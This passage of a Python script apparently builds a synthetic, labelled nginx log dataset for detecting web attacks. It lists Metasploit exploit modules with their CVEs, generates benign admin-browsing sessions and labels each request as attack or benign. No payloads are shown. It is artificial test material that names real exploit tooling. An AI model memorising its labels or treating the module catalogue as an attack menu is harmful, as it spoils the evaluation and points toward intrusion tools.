 'modules/exploits/unix/webapp/arkeia_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', '-'),
 'modules/exploits/unix/webapp/awstats_migrate_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2006', 'CVE-2006-2237'),
 'modules/exploits/unix/webapp/barracuda_img_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2005', 'CVE-2005-2847'),
 'modules/exploits/unix/webapp/base_qry_common.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2008', 'CVE-2006-2685'),
 'modules/exploits/unix/webapp/basilic_diff_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2012', 'CVE-2012-3399'),
 'modules/exploits/unix/webapp/byob_unauth_rce.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2024', 'CVE-2024-45256,CVE-2024-45257'),
 'modules/exploits/unix/webapp/cacti_graphimage_exec.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2005', 'CVE-2005-10004'),
 'modules/exploits/unix/webapp/cakephp_cache_corruption.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2010', 'CVE-2010-4335'),
 'modules/exploits/unix/webapp/clipbucket_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2013-10040'),
 'modules/exploits/unix/webapp/datalife_preview_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2013-1412'),
 'modules/exploits/unix/webapp/drupal_restws_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2016', '-'),
 'modules/exploits/unix/webapp/foswiki_maketext.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2012', 'CVE-2012-6329'),
 'modules/exploits/unix/webapp/generic_exec.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '1993', '-'),
 'modules/exploits/unix/webapp/google_proxystylesheet_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2005', 'CVE-2005-3757'),
 'modules/exploits/unix/webapp/guestbook_ssi_exec.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '1999', 'CVE-1999-1053'),
 'modules/exploits/unix/webapp/horde_unserialize_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2014-1691'),
 'modules/exploits/unix/webapp/jquery_file_upload.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2018', 'CVE-2018-9206'),
 'modules/exploits/unix/webapp/libretto_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2013-10054'),
 'modules/exploits/unix/webapp/mambo_cache_lite.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2008', 'CVE-2008-2905'),
 'modules/exploits/unix/webapp/open_flash_chart_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2009', 'CVE-2009-4140'),
 'modules/exploits/unix/webapp/opennetadmin_ping_cmd_injection.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2019', 'CVE-2019-25065'),
 'modules/exploits/unix/webapp/opensis_chain_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2020', 'CVE-2020-13381,CVE-2020-13382,CVE-2020-13383'),
 'modules/exploits/unix/webapp/php_eval.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2008', '-'),
 'modules/exploits/unix/webapp/phpbb_highlight.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '2004', 'CVE-2004-1315,CVE-2005-2086'),
 'modules/exploits/unix/webapp/projectpier_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2012', 'CVE-2012-10036'),
 'modules/exploits/unix/webapp/qtss_parse_xml_exec.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2003', 'CVE-2003-0050'),
 'modules/exploits/unix/webapp/skybluecanvas_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2014', 'CVE-2014-1683'),
 'modules/exploits/unix/webapp/squash_yaml_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2013-5036'),
 'modules/exploits/unix/webapp/tikiwiki_graph_formula_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2007', 'CVE-2007-5423'),
 'modules/exploits/unix/webapp/tikiwiki_upload_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2016', 'CVE-2025-34111'),
 'modules/exploits/unix/webapp/trixbox_langchoice.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2008', 'CVE-2008-6825'),
 'modules/exploits/unix/webapp/twiki_history.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2005', 'CVE-2005-2877'),
 'modules/exploits/unix/webapp/twiki_maketext.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2012', 'CVE-2012-6329'),
 'modules/exploits/unix/webapp/vbulletin_vote_sqli_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2013', 'CVE-2013-3522'),
 'modules/exploits/unix/webapp/vicidial_user_authorization_unauth_cmd_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2017', 'CVE-2025-34099'),
 'modules/exploits/unix/webapp/wp_advanced_custom_fields_exec.rb': ('0bf595c2ecba4ee10763fa6cd96dd13dbedf77e9', '2012', 'CVE-2012-10025'),
 'modules/exploits/windows/http/adobe_robohelper_authbypass.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2009', 'CVE-2009-3068'),
 'modules/exploits/windows/http/advantech_iview_networkservlet_cmd_inject.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2022', 'CVE-2022-2143'),
 'modules/exploits/windows/http/advantech_iview_unauth_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2021', 'CVE-2021-22652'),
 'modules/exploits/windows/http/ajaxpro_deserialization_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2021', 'CVE-2021-23758'),
 'modules/exploits/windows/http/altn_webadmin.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2003', 'CVE-2003-0471'),
 'modules/exploits/windows/http/apache_chunked.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2002', 'CVE-2002-0392'),
 'modules/exploits/windows/http/apache_tika_jp2_jscript.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2018', 'CVE-2018-1335'),
 'modules/exploits/windows/http/avaya_ccr_imageupload_exec.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2012', 'CVE-2012-3811'),
 'modules/exploits/windows/http/belkin_bulldog.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2009', 'CVE-2009-20009'),
 'modules/exploits/windows/http/ca_arcserve_rpc_authbypass.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2011', 'CVE-2011-3011'),
 'modules/exploits/windows/http/cogent_datahub_command.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2014', 'CVE-2014-3789'),
 'modules/exploits/windows/http/cogent_datahub_request_headers_bof.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2013', 'CVE-2013-0680'),
 'modules/exploits/windows/http/coldfusion_fckeditor.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2009', 'CVE-2009-2265'),
 'modules/exploits/windows/http/desktopcentral_file_upload.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2013', 'CVE-2013-7390'),
 'modules/exploits/windows/http/disk_pulse_enterprise_bof.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2016', 'CVE-2025-34108'),
 'modules/exploits/windows/http/disk_pulse_enterprise_get.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2017', 'CVE-2017-13696'),
 'modules/exploits/windows/http/diskboss_get_bof.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2016', 'CVE-2025-34105'),
 'modules/exploits/windows/http/disksavvy_get_bof.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2016', 'CVE-2017-6187'),
 'modules/exploits/windows/http/disksorter_bof.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2017', 'CVE-2017-7230'),
 'modules/exploits/windows/http/dnn_cookie_deserialization_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2017', 'CVE-2017-9822,CVE-2018-15811,CVE-2018-15812,CVE-2018-18325,CVE-2018-18326'),
 'modules/exploits/windows/http/dup_scout_enterprise_login_bof.rb': ('d4b196b3099b4de52cf6aa23dc23b51860eb7c47', '2017', 'CVE-2017-13696'),
 'modules/exploits/windows/http/easychatserver_seh.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2017', 'CVE-2017-9544'),
 'modules/exploits/windows/http/easyfilesharing_post.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2017', 'CVE-2025-34096'),
 'modules/exploits/windows/http/ektron_xslt_exec.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2012', 'CVE-2012-5357'),
 'modules/exploits/windows/http/ektron_xslt_exec_ws.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2015', 'CVE-2015-0923'),
 'modules/exploits/windows/http/ericom_access_now_bof.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2014', 'CVE-2014-3913'),
 'modules/exploits/windows/http/exchange_ecp_dlp_policy.rb': ('04ff0f6bd7cdd42ca66b4e39003167ea7fe8fc65', '2021', 'CVE-2020-16875,CVE-2020-17132'),
 'modules/exploits/windows/http/fdm_auth_header.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2009', 'CVE-2009-0183'),
 'modules/exploits/windows/http/file_sharing_wizard_seh.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2019', '-'),
 'modules/exploits/windows/http/forticlient_ems_fctid_sqli.rb': ('2ffe027eab218f4962864c33416af789cde65699', '2024', 'CVE-2023-48788'),
 'modules/exploits/windows/http/generic_http_dll_injection.rb': ('602adeb4c5404cf9566da2beec28da2b28e91e8b', '2015', '-'),
 'modules/exploits/windows/http/gitstack_rce.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2018', 'CVE-2018-5955'),
 'modules/exploits/windows/http/hp_autopass_license_traversal.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2014', 'CVE-2013-6221'),
 'modules/exploits/windows/http/hp_imc_bims_upload.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2013', 'CVE-2013-4822'),
 'modules/exploits/windows/http/hp_nnm_ovwebsnmpsrv_ovutil.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2010', 'CVE-2010-1961'),
 'modules/exploits/windows/http/hp_nnm_ovwebsnmpsrv_uro.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2010', 'CVE-2010-1960'),
 'modules/exploits/windows/http/hp_pcm_snac_update_certificates.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2013', 'CVE-2013-4812'),
 'modules/exploits/windows/http/hp_power_manager_filename.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2011', 'CVE-2009-3999'),
 'modules/exploits/windows/http/hp_power_manager_login.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2009', 'CVE-2009-2685'),
 'modules/exploits/windows/http/integard_password_bof.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2010', 'CVE-2010-5333'),
 'modules/exploits/windows/http/intersystems_cache.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2009', 'CVE-2009-20005'),
 'modules/exploits/windows/http/kaseya_uploader.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2015', 'CVE-2015-6922'),
 'modules/exploits/windows/http/lg_simple_editor_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2023', 'CVE-2023-40498'),
 'modules/exploits/windows/http/manageengine_connectionid_write.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2015', 'CVE-2015-8249'),
 'modules/exploits/windows/http/maxdb_webdbm_get_overflow.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2005', 'CVE-2005-0684'),
 'modules/exploits/windows/http/netgear_nms_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2016', 'CVE-2016-1525,CVE-2023-38096,CVE-2023-38098'),
 'modules/exploits/windows/http/northstar_c2_xss_to_agent_rce.rb': ('b743296f48f6c42cbf328eee29ad41e889797a07', '2024', 'CVE-2024-28741'),
 'modules/exploits/windows/http/novell_mdm_lfi.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2013', 'CVE-2013-1081'),
 'modules/exploits/windows/http/nowsms.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2008', 'CVE-2008-0871'),
 'modules/exploits/windows/http/oats_weblogic_console.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2019', 'CVE-2007-2699'),
 'modules/exploits/windows/http/octopusdeploy_deploy.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2017', 'CVE-2018-18850'),
 'modules/exploits/windows/http/oracle_beehive_evaluation.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2010', 'CVE-2010-4417'),
 'modules/exploits/windows/http/oracle_event_processing_upload.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2014', 'CVE-2014-2424'),
 'modules/exploits/windows/http/osb_uname_jlist.rb': ('b743296f48f6c42cbf328eee29ad41e889797a07', '2010', 'CVE-2010-0904'),
 'modules/exploits/windows/http/pgadmin_binary_path_api.rb': ('4c5e0203ddda3635cb9d54af98a9d258d1d84c8a', '2024', 'CVE-2024-3116'),
 'modules/exploits/windows/http/plex_unpickle_dict_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2020', 'CVE-2020-5741'),
 'modules/exploits/windows/http/prtg_authenticated_rce.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2018', 'CVE-2018-9276'),
 'modules/exploits/windows/http/rabidhamster_r4_log.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2012', 'CVE-2012-10058'),
 'modules/exploits/windows/http/sap_configservlet_exec_noauth.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2012', '-'),
 'modules/exploits/windows/http/sepm_auth_bypass_rce.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2015', 'CVE-2015-1486,CVE-2015-1487,CVE-2015-1489'),
 'modules/exploits/windows/http/shoutcast_format.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2004', 'CVE-2004-1373'),
 'modules/exploits/windows/http/softing_sis_rce.rb': ('6281eda0f38edf025414d700d7caca9fd78810ad', '2022', 'CVE-2022-1373,CVE-2022-2334'),
 'modules/exploits/windows/http/solarwinds_fsm_userlogin.rb': ('370c35c1e27615af2bb252916d8b22a3a67d64dd', '2015', 'CVE-2015-2284'),
 'modules/exploits/windows/http/solarwinds_storage_manager_sql.rb': ('406d51bf566f048ef3e9129b278c2f950c1ac46a', '2011', 'CVE-2012-2576'),
 'modules/exploits/windows/http/sybase_easerver.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2005', 'CVE-2005-2297'),
 'modules/exploits/windows/http/trendmicro_officescan.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2007', 'CVE-2008-1365'),
 'modules/exploits/windows/http/zenworks_uploadservlet.rb': ('602adeb4c5404cf9566da2beec28da2b28e91e8b', '2010', 'CVE-2010-5324'),
 'modules/exploits/windows/http/zoho_password_manager_pro_xml_rpc_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2022', 'CVE-2022-35405'),
}

# ----------------------------------------------------------------- status codes and sizes
# The logging server is nginx in front of assorted applications.  nginx answers 400 to a
# request target that does not start with '/', to a '..' that climbs above the root, and
# to a request line without a Host header; the rest is a seeded mix, mostly 404/200/500/302.
def climbs_above_root(path):
    depth = 0
    for seg in path.split('/'):
        if seg == '..':
            depth -= 1
            if depth < 0:
                return True
        elif seg not in ('', '.'):
            depth += 1
    return False

def status_for(e, method, target, r):
    if e['status']:
        return e['status']
    path = target.split('?', 1)[0]
    if not target.startswith('/') or climbs_above_root(path):
        return 400
    x = r.random()
    if method in ('PUT', 'DELETE'):
        return 405 if x < 0.35 else 404 if x < 0.6 else 200 if x < 0.85 else 500
    if method == 'HEAD':
        return 200 if x < 0.5 else 404
    if method == 'POST':
        return 404 if x < 0.35 else 200 if x < 0.65 else 500 if x < 0.80 else 302 if x < 0.90 else 403 if x < 0.96 else 405
    return 404 if x < 0.48 else 200 if x < 0.72 else 500 if x < 0.83 else 302 if x < 0.91 else 403 if x < 0.97 else 400

SIZES = {200: (1800, 42000), 204: (0, 0), 206: (2048, 65536), 301: (162, 162), 302: (0, 154), 303: (0, 0),
         304: (0, 0), 400: (150, 157), 401: (179, 581), 403: (153, 153), 404: (153, 555), 405: (157, 157),
         500: (177, 4200)}

def size(r, st, target='', method='GET'):
    if method == 'HEAD':
        return 0
    lo, hi = SIZES[st]
    if st == 200 and any(target.split('?')[0].endswith(x) for x in ('.css', '.js', '.svg', '.png', '.woff2', '.ico')):
        return r.randint(900, 160000)
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

# ----------------------------------------------------------------- nginx log line
def esc_bytes(data):
    """nginx escapes '"', '\\' and bytes outside 0x20-0x7e in logged fields as \\xXX"""
    return ''.join('\\x%02X' % b if (b == 0x22 or b == 0x5c or b < 0x20 or b > 0x7e) else chr(b) for b in data)

def esc(s):
    # request lines here are byte strings held as latin-1 text (shellcode included);
    # header values are ASCII or UTF-8
    try:
        return esc_bytes(s.encode('latin-1'))
    except UnicodeEncodeError:
        return esc_bytes(s.encode('utf-8'))

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(request), st, sz,
                                                 esc(ref), esc(ua))

# ----------------------------------------------------------------- benign browsing
JS_SAFE = set(ALPHA_U + ALPHA_L + DIGITS + "-_.!~*'()")

def jsenc(s):
    """what a browser page's encodeURIComponent() sends: uppercase %XX"""
    return ''.join(ch if ch in JS_SAFE else ''.join('%%%02X' % b for b in ch.encode('utf-8')) for ch in s)

# People using, legitimately, the kinds of products the modules target.  Each source
# loads a page and its assets (page as Referer, some revalidated as 304), logs in and
# works for a while.  Several requests brush against this set's angle: a Jenkins console
# log, Confluence CQL search, WordPress autosave through the REST API, a LuCI ;stok=
# session path, Zimbra attachment downloads, Solr queries, phpMyAdmin SQL pages.
def jenkins_user(r, i):
    j = 'https://ci.example.org'
    job = r.choice(['backend-build', 'storefront-deploy', 'nightly-integration', 'docs-site'])
    n = r.randint(140, 2200)
    return [('/login?from=%2F', 200, '-'),
            ('/static/a1b2c3d4/jsbundles/vendors.js', 200, j + '/login?from=%2F'),
            ('/static/a1b2c3d4/jsbundles/styles.css', 200, j + '/login?from=%2F'),
            ('POST /j_spring_security_check', 302, j + '/login?from=%2F'),
            ('/', 200, j + '/login?from=%2F'),
            ('/job/%s/' % job, 200, j + '/'),
            ('/job/%s/%d/console' % (job, n), 200, j + '/job/%s/' % job),
            ('/job/%s/%d/logText/progressiveHtml?start=0' % (job, n), 200, j + '/job/%s/%d/console' % (job, n))]

def confluence_reader(r, i):
    c = 'https://wiki.example.org'
    q = r.choice(['deploy runbook', 'on-call rotation', 'vpn setup', 'release checklist 4.2'])
    pid = r.randint(100000, 999999)
    return [('/wiki/spaces/ENG/overview', 200, r.choice(['-', 'https://mail.example.org/'])),
            ('/wiki/s/-1234567890/6452/abc123/_/download/batch/com.atlassian.confluence.plugins:main/main.css', 200, c + '/wiki/spaces/ENG/overview'),
            ('/wiki/rest/api/search?cql=' + jsenc('siteSearch ~ "%s" and space = "ENG"' % q) + '&limit=10', 200, c + '/wiki/spaces/ENG/overview'),
            ('/wiki/spaces/ENG/pages/%d/%s' % (pid, q.title().replace(' ', '+')), 200, c + '/wiki/spaces/ENG/overview'),
            ('/wiki/rest/api/content/%d/child/attachment?limit=25' % pid, 200, c + '/wiki/spaces/ENG/pages/%d' % pid),
            ('/wiki/download/attachments/%d/architecture.png?version=3&modificationDate=1764150000000&api=v2' % pid, 200, c + '/wiki/spaces/ENG/pages/%d' % pid)]

def wordpress_editor(r, i):
    w = 'https://www.example.org'
    post = r.randint(210, 4800)
    out = [('/wp-login.php', 200, '-'),
           ('POST /wp-login.php', 302, w + '/wp-login.php'),
           ('/wp-admin/', 200, w + '/wp-login.php'),
           ('/wp-admin/post.php?post=%d&action=edit' % post, 200, w + '/wp-admin/edit.php'),
           ('/wp-json/wp/v2/posts/%d?_locale=user' % post, 200, w + '/wp-admin/post.php?post=%d&action=edit' % post),
           ('POST /wp-json/wp/v2/posts/%d/autosaves?_locale=user' % post, 200, w + '/wp-admin/post.php?post=%d&action=edit' % post),
           ('POST /wp-admin/admin-ajax.php', 200, w + '/wp-admin/post.php?post=%d&action=edit' % post)]
    if i % 2:
        out.append(('POST /wp-admin/async-upload.php', 200, w + '/wp-admin/post.php?post=%d&action=edit' % post))
    return out

def gitlab_user(r, i):
    g = 'https://git.example.org'
    proj = r.choice(['infra/deploy', 'web/storefront', 'ops/monitoring', 'platform/api-gateway'])
    mr = r.randint(12, 980)
    return [('/users/sign_in', 200, '-'),
            ('/assets/application-2c5a9d7e.css', 200, g + '/users/sign_in'),
            ('POST /users/sign_in', 302, g + '/users/sign_in'),
            ('/%s/-/merge_requests/%d' % (proj, mr), 200, g + '/dashboard/merge_requests'),
            ('/%s/-/merge_requests/%d/diffs.json?diff_head=true&view=inline&w=0' % (proj, mr), 200, g + '/%s/-/merge_requests/%d' % (proj, mr)),
            ('/api/v4/projects/%s/pipelines?ref=main&per_page=5' % proj.replace('/', '%2F'), 200, g + '/%s/-/merge_requests/%d' % (proj, mr)),
            ('/%s/-/jobs/%d/raw' % (proj, r.randint(100000, 999999)), 200, g + '/%s/-/pipelines' % proj)]

def router_admin(r, i):
    h = 'http://192.168.1.1'
    stok = ''.join(r.choice('0123456789abcdef') for _ in range(32))
    return [('/cgi-bin/luci', 200, '-'),
            ('/luci-static/bootstrap/cascade.css?v=git-24.086', 200, h + '/cgi-bin/luci'),
            ('POST /cgi-bin/luci', 302, h + '/cgi-bin/luci'),
            ('/cgi-bin/luci/;stok=%s/admin/status/overview' % stok, 200, h + '/cgi-bin/luci'),
            ('/cgi-bin/luci/;stok=%s/admin/network/wireless' % stok, 200, h + '/cgi-bin/luci/;stok=%s/admin/status/overview' % stok),
            ('/cgi-bin/luci/;stok=%s/admin/system/flash' % stok, 200, h + '/cgi-bin/luci/;stok=%s/admin/network/wireless' % stok)]

def webmail_user(r, i):
    z = 'https://mail.example.org'
    mid = r.randint(250, 9000)
    return [('/', 200, '-'),
            ('POST /', 302, z + '/'),
            ('/?client=preferred', 200, z + '/'),
            ('POST /service/soap/SearchRequest', 200, z + '/?client=preferred'),
            ('/service/home/~/?auth=co&loc=en_US&id=%d&part=2' % mid, 200, z + '/?client=preferred'),
            ('/service/home/~/?auth=co&loc=en_US&id=%d&part=2&disp=a' % mid, 200, z + '/?client=preferred')]

def phpmyadmin_dba(r, i):
    p = 'https://db.example.org'
    tbl = r.choice(['orders', 'customers', 'wp_posts', 'sessions'])
    return [('/phpmyadmin/index.php?route=/&lang=en', 200, '-'),
            ('/phpmyadmin/themes/pmahomme/css/theme.css?v=5.2.2', 200, p + '/phpmyadmin/index.php?route=/&lang=en'),
            ('POST /phpmyadmin/index.php?route=/', 302, p + '/phpmyadmin/index.php?route=/&lang=en'),
            ('/phpmyadmin/index.php?route=/sql&db=shop&table=%s&pos=0' % tbl, 200, p + '/phpmyadmin/index.php?route=/'),
            ('POST /phpmyadmin/index.php?route=/import', 200, p + '/phpmyadmin/index.php?route=/table/sql&db=shop&table=%s' % tbl),
            ('/phpmyadmin/index.php?route=/table/structure&db=shop&table=%s' % tbl, 200, p + '/phpmyadmin/index.php?route=/sql&db=shop&table=%s&pos=0' % tbl)]

def solr_admin(r, i):
    s = 'http://search.example.org:8983'
    core = r.choice(['products', 'articles'])
    q = r.choice(['name:linen AND price:[10 TO 50]', 'title:"release notes"', '*:*', 'category:(shoes OR socks)'])
    return [('/solr/', 200, '-'),
            ('/solr/css/angular/common.css?_=9.8.0', 200, s + '/solr/'),
            ('/solr/admin/cores?action=STATUS&wt=json', 200, s + '/solr/'),
            ('/solr/%s/select?q=%s&rows=10&wt=json' % (core, jsenc(q)), 200, s + '/solr/'),
            ('/solr/%s/admin/luke?wt=json&show=index&numTerms=0' % core, 200, s + '/solr/'),
            ('/solr/%s/schema/fields?wt=json' % core, 200, s + '/solr/')]

def nagios_viewer(r, i):
    n = 'https://monitor.example.org'
    host = r.choice(['web01', 'db02', 'cache01', 'lb-edge'])
    return [('/nagiosxi/login.php', 200, '-'),
            ('POST /nagiosxi/login.php', 302, n + '/nagiosxi/login.php'),
            ('/nagiosxi/index.php', 200, n + '/nagiosxi/login.php'),
            ('/nagiosxi/includes/components/xicore/status.php?show=services&host=%s' % host, 200, n + '/nagiosxi/index.php'),
            ('/nagiosxi/includes/components/perfdata/graphApi.php?host=%s&service=_HOST_&start=-86400' % host, 200, n + '/nagiosxi/includes/components/xicore/status.php?show=services&host=%s' % host)]

BENIGN_KINDS = [('jenkins-user', jenkins_user, 5), ('confluence-reader', confluence_reader, 5),
                ('wordpress-editor', wordpress_editor, 5), ('gitlab-user', gitlab_user, 5),
                ('router-admin', router_admin, 4), ('webmail-user', webmail_user, 4),
                ('phpmyadmin-dba', phpmyadmin_dba, 4), ('solr-admin', solr_admin, 4),
                ('nagios-viewer', nagios_viewer, 4)]

# ----------------------------------------------------------------- write
def pick_ip(r, net, used):
    base = int(net.network_address)
    while True:
        ip = str(ipaddress.ip_address(base + r.randint(1, net.num_addresses - 2)))
        if not ip.endswith(('.0', '.255')) and ip not in used:
            used.add(ip)
            return ip

def check_disjoint(ips, cves):
    here = os.path.basename(OUT)
    others = set()
    for f in glob.glob(os.path.join(OUT, '..', '*', '*.log')):
        if os.path.basename(os.path.dirname(f)) == here:
            continue
        with open(f, encoding='utf-8', errors='replace') as fh:
            for l in fh:
                others.add(l.split(' ', 1)[0])
    clash = sorted(set(ips) & others)
    inside = sorted(a for a in others if ':' not in a and a.count('.') == 3 and
                    (ipaddress.ip_address(a) in ATTACK_NET or ipaddress.ip_address(a) in BENIGN_NET))
    print('check: %d addresses here, %d in other sets\' logs, %d shared, %d of theirs inside %s or %s'
          % (len(set(ips)), len(others), len(clash), len(inside), ATTACK_NET, BENIGN_NET))
    theirs = set()
    for pat in ('requests.tsv', '*.labels'):
        for f in glob.glob(os.path.join(OUT, '..', '*', pat)):
            if os.path.basename(os.path.dirname(f)) == here:
                continue
            with open(f, encoding='utf-8', errors='replace') as fh:
                theirs.update(re.findall(r'CVE-\d{4}-\d+', fh.read()))
    reused = sorted(set(cves) & theirs)
    print('check: %d CVEs here, %d named in other sets\' requests.tsv/labels, %d reused%s'
          % (len(set(cves)), len(theirs), len(reused), (': ' + ' '.join(reused)) if reused else ''))
    return not clash and not inside and not reused

def module_ref(path):
    """modules/exploits/linux/http/x.rb -> exploit/linux/http/x (how msfconsole names it)"""
    p = path[len('modules/'):-len('.rb')]
    return p.replace('exploits/', 'exploit/', 1)

def main():
    r = random.Random(SEED)
    paths = [e['path'] for e in TABLE]
    assert len(paths) == len(set(paths)), 'module used twice'
    prod = collections.Counter(e['product'] for e in TABLE)
    assert max(prod.values()) <= 2, [p for p, n in prod.items() if n > 2]
    for e in TABLE:
        assert e['cve'] == '-' or e['cve'] in META[e['path']][2].split(','), e['path']
    order = list(range(len(TABLE)))
    r.shuffle(order)
    lines, labels, reqrows = [], [], []
    used = set()
    t = DAY + datetime.timedelta(minutes=6)
    for idx in order:
        e = TABLE[idx]
        c = Ctx(r)
        method, target, where = e['method'], e['target'], e['where']
        if callable(target):
            target = target(c)
            if isinstance(target, tuple):
                method, target, where = target
        ua = e['ua']
        if callable(ua):
            ua = ua(c)
        ua = ua or UA[r.choice(BROWSERS)]
        ref = e['ref'] or '-'
        ip = pick_ip(r, ATTACK_NET, used)
        st = status_for(e, method, target, r)
        t += datetime.timedelta(seconds=r.randint(30, 280))
        request = '%s %s HTTP/1.1' % (method, target)
        lines.append((t, line(ip, t, request, st, size(r, st, target, method), ref, ua)))
        technique = module_ref(e['path'])
        src = 'metasploit-framework %s [rapid7/metasploit-framework@%s]' % (e['path'], META[e['path']][0])
        reqrows.append((ip, '\t'.join([ip, e['cat'], e['path'], e['cve'], method, esc(request), src, where, e['product']])))
        labels.append((ip, '%s\tattack\t%s\t%s' % (ip, e['cat'], technique)))
    lines.sort(key=lambda x: x[0])
    blines, blabels = [], []
    bused = set()
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            ip = pick_ip(r, BENIGN_NET, bused)
            ua = UA[r.choice(BROWSERS)]
            tt = DAY + datetime.timedelta(seconds=r.randint(1800, 22 * 3600))
            reqs = fn(r, i)
            assert 5 <= len(reqs) <= 8, (kind, len(reqs))
            for (target, st, ref) in reqs:
                method = 'GET'
                if target.startswith('POST '):
                    method, target = 'POST', target[5:]
